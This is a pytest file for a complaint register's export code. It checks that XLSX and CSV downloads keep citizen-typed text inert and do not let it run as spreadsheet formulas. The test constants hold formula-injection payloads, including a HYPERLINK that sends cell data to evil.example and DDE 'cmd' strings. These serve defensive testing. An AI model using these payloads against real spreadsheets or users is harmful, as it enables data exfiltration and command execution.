"""Exports are inert (issue #12, item 5): what a citizen typed never becomes a formula in the Buku Rekap.

A complaint whose name, address and subject start with ``=``, ``-`` and ``@`` is submitted through intake's
public API, and a clarification starting with ``+`` is given through the workflow API; the register is then
downloaded from the dashboard API as XLSX (read back with openpyxl: string cells, values unchanged) and as
CSV (read back with the csv module: each such value prefixed with ``'``, as OWASP's CSV-injection guidance
says). Tab and CR cannot come through intake (it trims and refuses line breaks), so they are written
through the exporter itself.
"""

from __future__ import annotations

import csv
import io
import uuid
from datetime import UTC, datetime
from zoneinfo import ZoneInfo

import openpyxl
import pytest
from fastapi.testclient import TestClient

from services.accounts.handlers import add_user
from services.dashboard.adapters import exports
from services.dashboard.adapters.projections import ComplaintsProjection
from services.dashboard.adapters.subscription import Subscription
from services.dashboard.bootstrap import bootstrap as dashboard_bootstrap
from services.dashboard.config import DashboardSettings
from services.dashboard.domain import register as book
from services.workflow import handlers
from services.workflow.bootstrap import bootstrap as workflow_bootstrap
from shared.eventstore.postgres import PostgresEventStore
from shared.tenancy import Kecamatan, upsert_kecamatan
from tests.support.complaints import outbox_message
from tests.support.web import web_client

PASSWORD = "rahasia-uji-ekspor-123"
NAME = '=HYPERLINK("http://evil.example/?d="&A1,"Klik")'
ADDRESS = "-2+3+cmd|' /C calc'!A0"
SUBJECT = "@SUM(1+1)*cmd|' /C calc'!A0"
EXPLANATION = "+1+1 perbaikan dijadwalkan bulan depan"
NAME_COL, ADDRESS_COL, SUBJECT_COL, FOLLOW_UP_COL = 3, 4, 6, 8  # 1-based, as book.COLUMNS


@pytest.fixture(scope="module")
def world(settings, engine, tmp_path_factory):
    suffix = uuid.uuid4().hex[:5]
    k = Kecamatan(
        f"ekspor-{suffix}", f"93.{suffix}.1", f"Ekspor {suffix}", "pamekasan", "Kabupaten Pamekasan", {"city": "Ekspor"}
    )
    upsert_kecamatan(engine, [k])
    for role, unit in (("staf", None), ("kasi", "pemerintahan"), ("camat", None)):
        add_user(engine, f"e{suffix}.{role}", f"Petugas Ekspor {role}", role, PASSWORD, kecamatan=k.slug, unit=unit)
    web_settings = settings.model_copy(update={"data_dir": str(tmp_path_factory.mktemp("ekspor-data"))})
    with web_client(web_settings) as web:
        api = {name: TestClient(app) for name, app in web.apps.items()}
        tokens = {}
        for role in ("staf", "kasi", "camat"):
            r = api["workflow"].post("/v1/auth/token", data={"username": f"e{suffix}.{role}", "password": PASSWORD})
            assert r.status_code == 200, r.text
            tokens[role] = {"Authorization": f"Bearer {r.json()['access_token']}"}
        r = api["intake"].post(
            "/v1/complaints",
            headers={"Idempotency-Key": str(uuid.uuid4())},
            json={
                "kecamatan": k.slug,
                "channel": "web",
                "complainant": {"name": NAME, "nik": "3528071505900001", "phone": "081234567890", "address": ADDRESS},
                "subject": SUBJECT,
                "description": "Jalan di dusun rusak sejak Januari, mohon diperbaiki.",
            },
        )
        assert r.status_code == 202, r.text
        message = outbox_message(engine, r.json()["tracking_code"])  # what the outbox relay carries to the workflow
        wf = workflow_bootstrap(web_settings)
        handlers.record_complaint(wf, message)
        wf.engine.dispose()
        cid = message.complaint_id
        for role, action, fields in (
            ("kasi", "verify-identity", {}),
            ("staf", "register", {}),
            ("camat", "dispose", {"unit": "pemerintahan", "instructions": "Cek lokasi"}),
            ("kasi", "clarify", {"explanation": EXPLANATION}),
        ):
            version = api["workflow"].get(f"/v1/complaints/{cid}", headers=tokens["staf"]).json()["version"]
            r = api["workflow"].post(
                f"/v1/complaints/{cid}/{action}", headers=tokens[role], json={"expected_version": version, **fields}
            )
            assert r.status_code == 200, (action, r.text)
        dash = dashboard_bootstrap(DashboardSettings(**web_settings.model_dump()))
        Subscription(
            dash.engine, PostgresEventStore(dash.engine), ComplaintsProjection(dash.calendars), batch_size=500
        ).catch_up()
        dash.engine.dispose()
        yield {"api": api, "tokens": tokens, "kecamatan": k.slug}


def download(world, fmt: str) -> bytes:
    r = world["api"]["dashboard"].get(
        "/v1/register", params={"kecamatan": world["kecamatan"], "format": fmt}, headers=world["tokens"]["staf"]
    )
    assert r.status_code == 200, r.text
    return r.content


def test_the_xlsx_holds_what_was_typed_as_text_never_a_formula(world):
    ws = openpyxl.load_workbook(io.BytesIO(download(world, "xlsx"))).active
    row = exports.HEADER_ROW + 1
    assert ws.cell(row=row, column=1).value == "1/" + str(datetime.now(ZoneInfo("Asia/Jakarta")).year)
    for col, typed in ((NAME_COL, NAME), (ADDRESS_COL, ADDRESS), (SUBJECT_COL, SUBJECT), (FOLLOW_UP_COL, EXPLANATION)):
        cell = ws.cell(row=row, column=col)
        assert cell.data_type == "s", (book.COLUMNS[col - 1][0], cell.data_type, cell.value)
        assert cell.value == typed
    formulas = [c.coordinate for r in ws.iter_rows() for c in r if c.data_type == "f"]
    assert formulas == []


def test_the_csv_prefixes_what_a_spreadsheet_would_run(world):
    rows = list(csv.reader(io.StringIO(download(world, "csv").decode("utf-8-sig"))))
    assert rows[0] == [name for name, _ in book.COLUMNS]
    line = rows[1]
    for col, typed in ((NAME_COL, NAME), (ADDRESS_COL, ADDRESS), (SUBJECT_COL, SUBJECT), (FOLLOW_UP_COL, EXPLANATION)):
        assert line[col - 1] == "'" + typed
    assert line[4] == "Formulir web"  # an ordinary text is left as it is


def test_tab_and_carriage_return_at_the_start_are_inert_too():
    tz = ZoneInfo("Asia/Jakarta")
    row = {
        "complaint_id": uuid.uuid4(),
        "tracking_code": "7KQ2-M9XD-4T",
        "register_number": 1,
        "register_year": 2026,
        "received_at": datetime(2026, 2, 3, 2, 15, tzinfo=UTC),
        "complainant_name": "\t=1+1",
        "complainant_address": "\r=2+2",
        "channel": "web",
        "subject": "=3+3\x07bel",
        "status": "in_progress",
        "current_step": 4,
    }
    data = exports.xlsx(
        [book.line(row, masked=False, tz=tz)], kecamatan="=Uji", kabupaten="Uji", period="-", generated="-"
    )
    ws = openpyxl.load_workbook(io.BytesIO(data)).active
    cells = {col: ws.cell(row=exports.HEADER_ROW + 1, column=col) for col in (NAME_COL, ADDRESS_COL, SUBJECT_COL)}
    assert all(c.data_type == "s" for c in cells.values()) and ws["A2"].data_type == "s"
    assert cells[NAME_COL].value == "\t=1+1" and cells[ADDRESS_COL].value == "\r=2+2"
    assert cells[SUBJECT_COL].value == "=3+3\ufffdbel"  # a character no worksheet can hold, replaced (not a 500)
    line = list(csv.reader(io.StringIO(exports.csv_bytes([book.line(row, masked=False, tz=tz)]).decode("utf-8-sig"))))[
        1
    ]
    assert line[NAME_COL - 1] == "'\t=1+1" and line[ADDRESS_COL - 1] == "'\r=2+2"
